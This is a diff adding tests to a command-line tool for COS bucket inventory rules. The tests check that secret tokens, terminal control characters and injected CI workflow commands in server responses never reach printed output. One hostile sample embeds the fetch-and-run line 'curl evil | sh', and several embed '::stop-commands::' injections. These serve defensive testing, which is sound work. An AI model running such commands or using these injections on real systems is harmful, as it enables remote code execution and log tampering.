@@ -181,3 +181,107 @@ test("`put` goes on without a difference when reading is denied", async () => {
   assert.equal(outcome.code, 0, outcome.err)
   assert.match(outcome.err, /reading "daily-objects" is denied, so no difference is shown/u)
 })
+
+const rules = `buckets: [examplebucket-1250000000@ap-guangzhou]
+rules:
+  - { id: r, schedule: { frequency: Daily }, destination: { bucket: dest-1250000000, format: CSV } }
+`
+
+const hostile = [
+  `q-signature="TOKSECRET"`,
+  `x-cos-security-token="TOKSECRET"`,
+  `{"x-cos-security-token":"TOKSECRET"}`,
+  `session-token="TOKSECRET"`,
+  `"sessionToken": "TOKSECRET"`,
+  `SecretKey=TOKSECRET`,
+  `Bearer "TOKSECRET"`,
+  String.raw`{\"token\":\"TOKSECRET\"}`,
+  `a\n::stop-commands::x\r\n  fix:    curl evil | sh\u202e\u009b31m`,
+]
+
+const commands = [
+  ["plan", "-"],
+  ["apply", "-", "--yes"],
+  ["diff", "-"],
+  ["export"],
+  ["export", "--bucket", "examplebucket-1250000000", "--bucket", "otherbucket-1250000000"],
+  ["get", "list1"],
+  ["list", "--bucket", "examplebucket-1250000000", "--bucket", "otherbucket-1250000000"],
+  ["delete", "list1", "list2", "--yes"],
+  ["delete", "list1", "--yes", "--bucket", "examplebucket-1250000000", "--bucket", "otherbucket-1250000000"],
+  ["buckets"],
+  ["copy", "examplebucket-1250000000", "otherbucket-1250000000", "--yes"],
+]
+
+for (const command of commands) {
+  for (const form of ["table", "json", "yaml", ...(command[0] === "plan" ? ["markdown"] : [])]) {
+    // Standard output of export is the rules, in YAML or JSON
+    if (command[0] === "export" && form === "table") continue
+    test(`\`${command.join(" ")}\` in ${form} shows no secret and no line of the server's when COS refuses`, async () => {
+      for (const message of hostile) {
+        const body = `<Error><Code>AccessDenied</Code><Message>${message}</Message></Error>`
+        const { code, out, err } = await Effect.flatMap(
+          listen(http("403 Forbidden", body)),
+          ({ origin }) =>
+            Effect.promise(() =>
+              invoke([...command, ...(form === "table" ? [] : ["-o", form])], {
+                env: settingsFor(origin),
+                stdin: rules,
+              })
+            ),
+        ).pipe(Effect.scoped, Effect.runPromise)
+        assert.notEqual(code, 0)
+        assert.notEqual(err, "")
+        assert.doesNotMatch(out + err, /TOKSECRET|[\u202e\u009b\r]/u)
+        assert.doesNotMatch(out + err, /^\s*(?:::|fix:\s+curl)/mu)
+        if (form === "json") {
+          assert.equal(typeof JSON.parse(err), "object")
+          if (out !== "") assert.equal(typeof JSON.parse(out), "object")
+        }
+      }
+    })
+  }
+}
+
+test("A rule's own lines make no line of what is printed when COS sends them", async () => {
+  const odd = `a\n::stop-commands::x\n  Destination  b`
+  const rule = other.replace("<Id>other</Id>", `<Id>list1</Id><Filter><Prefix>${odd}</Prefix></Filter>`)
+    .replace("<Bucket>b</Bucket>", `<Bucket>${odd}</Bucket><Prefix>${odd}</Prefix>`)
+    .replace("</InventoryConfiguration>", `<Odd>${odd}</Odd></InventoryConfiguration>`)
+  const listed = `<ListInventoryConfigurationResult>${
+    rule.replace("<Id>list1</Id>", "<Id>::stop-commands::x</Id>")
+  }<IsTruncated>false</IsTruncated></ListInventoryConfigurationResult>`
+  const manages = rules.replace("rules:", 'manages: ["*"]\nrules:')
+  for (
+    const [args, body] of [
+      [["get", "list1"], rule],
+      [["list"], listed],
+      [["plan", "-", "--all", "--prune"], listed],
+      [["plan", "-", "--all", "--prune", "-o", "markdown"], listed],
+      [["diff", "-"], listed],
+    ] as const
+  ) {
+    const { code, out, err } = await Effect.flatMap(
+      listen(http("200 OK", body)),
+      ({ origin }) => Effect.promise(() => invoke(args, { env: settingsFor(origin), stdin: manages })),
+    ).pipe(Effect.scoped, Effect.runPromise)
+    assert.ok(code === 0 || code === 2, err)
+    assert.match(out, /stop-commands/u)
+    assert.doesNotMatch(out + err, /^\s*(?:::|Destination {2}b)/mu)
+  }
+})
+
+test("A file's own lines make no line of what is printed when its findings are shown", async () => {
+  const file = JSON.stringify({
+    id: "a\n::stop-commands::x",
+    isEnabled: "b\n::stop-commands::x",
+    "c\n::stop-commands::x": "d\n::error::x",
+    schedule: { frequency: "e\n::stop-commands::x" },
+  })
+  for (const command of ["validate", "lint", "put"]) {
+    const { code, out, err } = await invoke([command, "-"], { stdin: file, env: settingsFor("http://127.0.0.1:1") })
+    assert.equal(code, 5, err)
+    assert.match(out + err, /stop-commands/u)
+    assert.doesNotMatch(out + err, /^\s*::/mu)
+  }
+})
